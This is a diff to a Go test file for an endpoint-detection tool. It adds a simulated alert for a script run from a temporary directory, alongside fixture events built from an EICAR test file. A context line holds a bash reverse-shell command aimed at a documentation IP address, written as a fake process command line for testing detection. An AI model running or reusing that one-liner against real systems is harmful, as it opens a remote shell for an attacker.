@@ -158,6 +158,12 @@ func seed(t *testing.T, pkg []byte) seeded {
 		File:    event.File{FileName: "eicar.com", FolderPath: "/tmp/eicar.com", SHA256: eicarSHA256, SHA1: "3395856ce81f2b7382dee72602f798b642f14140", MD5: "44d88612fea8a8f36de82e1278abb02f", Size: 68},
 		Process: curl, Ancestry: chain,
 	}
+	payload := proc(31901, "sh", "/usr/bin/dash", "sh /tmp/.cache/install.sh", "ann", 4*time.Minute)
+	installed := event.Alert{
+		ID: id(t), Time: now.Add(-3 * time.Minute), Title: "A script out of a temporary directory was run", Severity: event.SeverityMedium,
+		Category: "Execution", Source: event.SourceEDR, DetectorID: "bulwark.script_in_tmp", Techniques: []string{"T1059.004"}, Action: "none",
+		Process: payload, Ancestry: append([]event.Process{curl}, chain...),
+	}
 	var events []event.Event
 	for i := range 300 {
 		at := now.Add(-time.Duration(300-i) * 11 * time.Second)
@@ -182,7 +188,7 @@ func seed(t *testing.T, pkg []byte) seeded {
 		Time: eicar.Time, Class: event.ClassDevice, Action: event.AntivirusDetection, File: eicar.File, Initiating: curl,
 		Additional: map[string]string{"ThreatName": eicar.ThreatName},
 	})
-	web.deliver(t, events, eicar)
+	web.deliver(t, events, eicar, installed)
 	web.deliver(t, nil, eicar) // the same alert again stays one
 
 	shell := proc(9001, "sh", "/usr/bin/dash", `sh -c "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"`, "postgres", time.Minute)
